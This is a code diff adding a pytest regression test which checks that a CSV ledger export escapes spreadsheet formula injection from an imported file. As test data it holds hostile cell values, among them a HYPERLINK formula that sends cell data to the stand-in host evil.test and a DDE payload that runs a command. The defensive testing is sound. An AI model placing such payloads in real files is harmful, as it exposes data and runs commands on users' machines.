@@ -7,6 +7,8 @@ local Responses server through the real SDK.
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
@@ -339,6 +341,34 @@ def test_a_priced_model_shows_money_and_the_saving_against_full_history(backend)
     assert {"Input $", "Output $", "Cost $", "Full history $"} <= set(ledger.columns)
     assert ledger["Cost $"].sum() == pytest.approx(summary.spent_usd)
     assert any("read 2026-12-02" in c.value and "gpt-5-mini $0.25 / $0.025 / $2" in c.value for c in usage.caption)
+
+
+def test_the_ledger_csv_of_an_imported_file_holds_no_cell_a_spreadsheet_would_run(downloads):
+    """Issue 28, item 6: an imported ``=HYPERLINK(...)`` model name was written as a live formula."""
+    source = ShortTermMemory(ScriptedBackend(), max_recent_turns=1)
+    for text in (B1, "Second question.", "Third question.", "Fourth question."):
+        with source.turn(text) as turn:
+            turn.run()
+    data = json.loads(dumps_transcript(source))
+    hostile = ['=HYPERLINK("http://evil.test/?"&A1,"Your grade")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1"]
+    assert len(data["ledger"]) >= len(hostile)
+    for row, text in zip(data["ledger"], hostile, strict=False):
+        row["model"] = text
+    data["ledger"][0]["source"] = "=1+1"
+    at = new_app(ShortTermMemory(ScriptedBackend()))
+    at.file_uploader(key=keys.IMPORT_INPUT).set_value(("lesson.json", json.dumps(data).encode(), "application/json")).run()
+    button(at, "Continue from this file").click().run()
+    assert not at.exception
+    open_usage(at)
+
+    rows = list(csv.DictReader(io.StringIO(downloads["memora-ledger.csv"](), newline="")))
+    assert [row["model"] for row in rows[: len(hostile)]] == ["'" + text for text in hostile]
+    assert rows[0]["source"] == "'=1+1"
+    assert [cell for row in rows for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))] == []
+    ledger = source.ledger
+    assert [int(row["total_tokens"]) for row in rows] == [r.total_tokens for r in ledger], "numbers stay numbers"
+    assert [float(row["latency_s"]) for row in rows] == [r.latency_s for r in ledger]
+    assert [row["kind"] for row in rows] == [r.kind for r in ledger]
 
 
 def test_offline_and_unknown_models_show_tokens_only(backend):
